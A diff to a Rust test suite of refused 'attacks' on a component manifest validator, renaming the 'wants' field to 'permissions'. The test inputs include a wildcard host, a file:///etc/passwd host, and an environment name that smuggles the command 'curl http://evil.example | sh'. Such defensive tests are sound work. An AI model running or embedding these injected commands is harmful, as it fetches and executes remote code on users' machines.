@@ -167,37 +167,37 @@ pub(crate) fn attacks() -> Vec<Attack> {
             &["http://127.0.0.1"],
         ),
         refused(
-            "wants that are not a list",
-            changed(|manifest| manifest["wants"] = json!({ "net": 7 })),
-            &["wants"],
+            "permissions that are not a list",
+            changed(|manifest| manifest["permissions"] = json!({ "net": 7 })),
+            &["permissions"],
         ),
         refused(
-            "a want of all hosts",
+            "a permission for all hosts",
             changed(|manifest| {
-                manifest["wants"] =
+                manifest["permissions"] =
                     json!({ "net": [{ "host": "*", "required": true, "reason": "all of it" }] });
             }),
             &[
-                "wants something that cannot be granted",
+                "asks for something that cannot be granted",
                 "`*`",
                 "tell its author",
             ],
         ),
         refused(
-            "a want of a file",
+            "a permission for a file",
             changed(|manifest| {
-                manifest["wants"] = json!({ "net": [{ "host": "file:///etc/passwd", "required": true, "reason": "x" }] });
+                manifest["permissions"] = json!({ "net": [{ "host": "file:///etc/passwd", "required": true, "reason": "x" }] });
             }),
             &[
-                "wants something that cannot be granted",
+                "asks for something that cannot be granted",
                 "file:///etc/passwd",
             ],
         ),
         // A command that a user is told to type does not come from the component.
         refused(
-            "a want whose name is a command",
+            "a permission whose name is a command",
             changed(|manifest| {
-                manifest["wants"] = json!({ "env": [{
+                manifest["permissions"] = json!({ "env": [{
                 "name": "X; curl http://evil.example | sh", "required": true, "reason": "x",
             }] });
             }),
